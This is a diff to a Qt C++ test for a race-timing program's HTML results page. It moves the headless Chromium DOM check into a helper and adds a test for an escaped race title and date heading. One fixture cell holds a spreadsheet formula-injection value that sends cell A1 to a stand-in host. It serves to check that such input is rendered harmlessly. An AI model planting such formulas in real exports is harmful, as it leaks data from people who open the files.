@@ -1,7 +1,7 @@
 #include "gridstore/CellStore.h"
 #include "protocol/HtmlPage.h"
+#include "support/HeadlessChromium.h"
 
-#include <QProcess>
 #include <QRegularExpression>
 #include <QStandardPaths>
 #include <QTemporaryDir>
@@ -47,38 +47,29 @@ QStringList cellsOf(const QString& html, const QString& tag)
 
 class TestBrowser : public QObject {
     Q_OBJECT
+private:
+    QString m_browser;
+
+    QString dumpDom(const QString& page) { return HeadlessChromiumDom(QUrl::fromLocalFile(page).toString()); }
+
 private slots:
-    void initTestCase() { }
+    void initTestCase()
+    {
+        m_browser = QStandardPaths::findExecutable(QStringLiteral("chromium"));
+        if (m_browser.isEmpty())
+            QSKIP("no chromium installed (scripts/install-deps.sh --tests installs it)");
+    }
 
     void chromium_showsThePageAsTyped()
     {
-        QString browser = QStandardPaths::findExecutable(QStringLiteral("chromium"));
-        if (browser.isEmpty())
-            QSKIP("no chromium installed (scripts/install-deps.sh --tests installs it)");
-
         QTemporaryDir dir;
-        QTemporaryDir profile;
         const QString page = dir.filePath("rennzeit.html");
         QVERIFY(protocol::WriteHtmlPage(raceTable(), page, QStringLiteral("rennzeit")));
-
-        QProcess chromium;
-        chromium.setProgram(browser);
-        chromium.setArguments({ "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-            "--disable-background-networking", "--disable-component-update", "--disable-sync",
-            "--user-data-dir=" + profile.path(), "--dump-dom", QUrl::fromLocalFile(page).toString() });
-        chromium.setProcessChannelMode(QProcess::SeparateChannels);
-        chromium.start();
-        QVERIFY2(chromium.waitForStarted(30000), qPrintable(chromium.errorString()));
-        if (!chromium.waitForFinished(180000)) {
-            chromium.kill();
-            chromium.waitForFinished();
-            QFAIL("chromium did not finish within three minutes");
-        }
-        QCOMPARE(chromium.exitStatus(), QProcess::NormalExit);
-        QVERIFY2(chromium.exitCode() == 0, chromium.readAllStandardError().right(2000).constData());
-        const QString dom = QString::fromUtf8(chromium.readAllStandardOutput());
+        const QString dom = dumpDom(page);
+        QVERIFY(!dom.isEmpty());
 
         QCOMPARE(cellsOf(dom, "title"), QStringList({ "Zeitenprotokoll rennzeit" }));
+        QVERIFY(cellsOf(dom, "h1").isEmpty());
         QCOMPARE(cellsOf(dom, "h5"), QStringList({ "Ergebnisse" }));
         QCOMPARE(cellsOf(dom, "th"), QStringList({ "Nr.", "Name", "Start", "Zeit", "Split", "Platz" }));
 
@@ -94,6 +85,21 @@ private slots:
                 { "11", "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")", "", "", "", "-" },
                 { "", "", "", "", "", "-" } }));
         QVERIFY(!dom.contains(QLatin1String("65120")));
+    }
+
+    void chromium_showsTheRaceTitleOnTop()
+    {
+        QTemporaryDir dir;
+        const QString page = dir.filePath("rennzeit.html");
+        const protocol::RaceHeading heading { QStringLiteral("Vereinsmeisterschaft Slalom 2027 – Jörg's <Lauf> & Co"),
+            QDate(2027, 6, 14) };
+        QVERIFY(protocol::WriteHtmlPage(raceTable(), page, QStringLiteral("rennzeit"), nullptr, {}, heading));
+        const QString dom = dumpDom(page);
+        QVERIFY(!dom.isEmpty());
+        QCOMPARE(cellsOf(dom, "title"), QStringList({ "Zeitenprotokoll " + heading.title }));
+        QCOMPARE(cellsOf(dom, "h1"), QStringList({ heading.title }));
+        QCOMPARE(cellsOf(dom, "h5"), QStringList({ "Ergebnisse vom 14.06.2027" }));
+        QCOMPARE(cellsOf(dom, "th"), QStringList({ "Nr.", "Name", "Start", "Zeit", "Split", "Platz" }));
     }
 };
 
